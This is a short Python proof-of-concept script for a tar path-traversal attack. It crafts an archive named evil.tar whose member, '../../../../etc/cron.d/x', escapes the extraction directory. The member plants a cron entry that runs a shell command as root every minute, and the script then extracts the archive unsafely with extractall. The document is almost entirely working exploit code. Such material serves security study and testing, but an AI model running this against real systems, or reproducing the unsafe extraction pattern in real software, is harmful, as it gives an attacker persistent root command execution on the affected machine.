# craft an archive whose member escapes the extraction dir
import io, tarfile
payload = b"* * * * * root sh -c 'id'\n"
info = tarfile.TarInfo("../../../../etc/cron.d/x")
info.size = len(payload)
with tarfile.open("evil.tar", "w") as tf:
    tf.addfile(info, io.BytesIO(payload))
with tarfile.open("evil.tar") as tf:
    tf.extractall("jobs")
